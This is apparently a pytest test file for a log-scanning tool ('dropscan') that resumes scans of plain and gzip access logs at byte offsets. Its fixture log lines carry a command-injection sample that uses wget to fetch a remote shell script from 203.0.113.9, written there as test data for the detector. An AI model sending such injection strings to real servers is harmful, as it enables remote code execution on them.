"""The engine hook for incremental runs: start a source at a decompressed offset with a line base,
and report where the scan stopped (always just past a complete line)."""

from __future__ import annotations

import gzip
import os

import pytest

from conftest import combined_line
from dropscan import engine
from dropscan.engine import Scan, ScanOptions
from dropscan.sources import Resume, Source, open_blocks, read_chunks, read_head

ATTACK = combined_line("/x?c=;wget http://203.0.113.9/a.sh", client="203.0.113.77")
CLEAN = combined_line("/index.html")
DATA = CLEAN * 3 + ATTACK + CLEAN + ATTACK  # attacks on lines 4 and 6


def ident(p) -> tuple[int, int]:
    st = os.stat(p)
    return (st.st_dev, st.st_ino)


@pytest.mark.parametrize("compress", [False, True])
def test_open_blocks_starts_at_the_decompressed_offset(tmp_path, compress):
    p = tmp_path / ("access.log.2.gz" if compress else "access.log")
    p.write_bytes(gzip.compress(DATA) if compress else DATA)
    for off in (0, 1, len(CLEAN), len(DATA) - 1, len(DATA), len(DATA) + 10):
        got = b"".join(open_blocks(Source(str(p), Resume(offset=off))))
        assert got == DATA[off:], off


def test_a_file_replaced_after_planning_is_not_read(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(DATA)
    old = ident(p)
    assert b"".join(open_blocks(Source(str(p), Resume(offset=10, ident=old)))) == DATA[10:]
    os.rename(p, tmp_path / "access.log.1")
    p.write_bytes(CLEAN)
    assert b"".join(open_blocks(Source(str(p), Resume(offset=10, ident=old)))) == b""
    run = Scan([], sources=[Source(str(p), Resume(offset=10, line=1, ident=old))])
    assert list(run) == [] and (run.files[0].end, run.files[0].error) == (10, None)


def test_read_chunks_can_hold_back_a_line_being_written():
    blocks = [b"a\nb\n", b"half a li"]
    assert list(read_chunks(iter(blocks), 2)) == [(b"a\nb\n", 0), (b"half a li", 4)]
    assert list(read_chunks(iter(blocks), 2, keep_partial=False)) == [(b"a\nb\n", 0)]
    assert list(read_chunks(iter([b"x\nno newline"]), 100, 7, keep_partial=False)) == [(b"x\n", 7)]
    assert list(read_chunks(iter([b"no newline"]), 100, keep_partial=False)) == []


def test_read_head_decompresses_little_and_checks_identity(tmp_path):
    big = CLEAN * 5000
    gz = tmp_path / "a.gz"
    gz.write_bytes(gzip.compress(big[:700]) + gzip.compress(big[700:]))  # two members
    assert read_head(str(gz), 1024) == big[:1024]
    plain = tmp_path / "a.log"
    plain.write_bytes(b"short\n")
    assert read_head(str(plain), 1024) == b"short\n"
    assert read_head(str(plain), 1024, ident=(0, 0)) is None
    assert read_head(str(plain), 1024, ident=ident(plain)) == b"short\n"


@pytest.mark.parametrize("compress", [False, True])
def test_scan_resumes_with_absolute_line_numbers_and_reports_the_end(tmp_path, compress, monkeypatch):
    monkeypatch.setattr(engine, "POOL_MIN_BYTES", 0)  # --jobs would take the pool for any input size
    p = tmp_path / ("access.log.1.gz" if compress else "access.log")
    tail = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET /?c=;wget http://203.0.113.9/b'  # being written
    body = DATA + (b"" if compress else tail)
    p.write_bytes(gzip.compress(body) if compress else body)
    start = len(CLEAN) * 3  # after line 3
    src = Source(str(p), Resume(offset=start, line=3, ident=ident(p), keep_partial=compress, format="combined"))
    run = Scan([], ScanOptions(jobs=4), sources=[src])
    found = list(run)
    assert [(f.line_no, f.offset) for f in found] == [(4, start), (6, start + len(ATTACK) + len(CLEAN))]
    s = run.files[0]
    assert (s.lines, s.format, s.error) == (3, "combined", None)
    assert s.end == len(DATA)  # the unterminated line is left for the next run


def test_scan_without_resume_is_unchanged(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(DATA + b"no newline at the end")
    run = Scan([str(p)])
    assert [f.line_no for f in run] == [4, 6]
    assert (run.files[0].lines, run.files[0].end) == (7, len(DATA) + len(b"no newline at the end"))
